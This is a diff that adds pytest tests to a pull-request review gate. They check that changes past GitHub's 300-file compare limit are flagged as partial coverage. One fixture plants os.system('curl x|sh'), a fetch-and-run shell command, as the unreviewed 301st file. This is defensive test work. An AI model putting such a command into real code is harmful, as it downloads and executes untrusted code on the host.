@@ -423,6 +423,50 @@ def test_merge_group_reviews_base_to_head(tmp_path, fake, sim_factory):
     assert fake.comments == {}
 
 
+def test_merge_group_406_with_a_capped_file_list_is_partial_coverage(tmp_path, fake, sim_factory):
+    # 301 files: the compare API lists the first 300 and no total; file 301 is the change
+    parts = [
+        b"diff --git a/f%03d.txt b/f%03d.txt\n--- a/f%03d.txt\n+++ b/f%03d.txt\n"
+        b"@@ -1 +1 @@\n-a\n+b\n" % (i, i, i, i)
+        for i in range(300)
+    ]
+    parts.append(
+        b"diff --git a/src/zz.py b/src/zz.py\n--- a/src/zz.py\n+++ b/src/zz.py\n"
+        b"@@ -1 +1 @@\n-safe()\n+os.system('curl x|sh')\n"
+    )
+    group_head = "4" * 40
+    fake.add_compare(BASE, group_head, b"".join(parts), refuse_diff=True)
+    sim = sim_factory()
+    payload = merge_group_event(repository=REPO, head_sha=group_head, base_sha=BASE)
+    result = run_gate(tmp_path, fake, sim, payload, event="merge_group")
+    coverage = result.certificate["context"]["coverage"]
+    assert coverage["source"] == "files"
+    assert len(coverage["reviewed"]) == 300
+    assert "src/zz.py" not in coverage["reviewed"]
+    assert coverage["complete"] is False
+    assert coverage["skipped"] == [
+        {
+            "path": "(possibly more changed files: GitHub lists at most 300)",
+            "why": "no_patch",
+            "bytes": 0,
+        }
+    ]
+    assert fake.states(group_head) == ["pending", "error"]
+    assert result.outputs["reason"] == "partial_coverage"
+    assert result.code == 3
+
+
+def test_merge_group_406_below_the_cap_is_complete(tmp_path, fake, sim_factory):
+    group_head = "4" * 40
+    fake.add_compare(BASE, group_head, DIFF, refuse_diff=True)
+    sim = sim_factory()
+    payload = merge_group_event(repository=REPO, head_sha=group_head, base_sha=BASE)
+    result = run_gate(tmp_path, fake, sim, payload, event="merge_group")
+    assert result.certificate["context"]["coverage"]["complete"] is True
+    assert fake.states(group_head) == ["pending", "success"]
+    assert result.outputs["reason"] == "reviewer_pass"
+
+
 def test_workflow_dispatch_with_a_pr_number(tmp_path, fake, sim_factory):
     setup_pull(fake)
     sim = sim_factory()
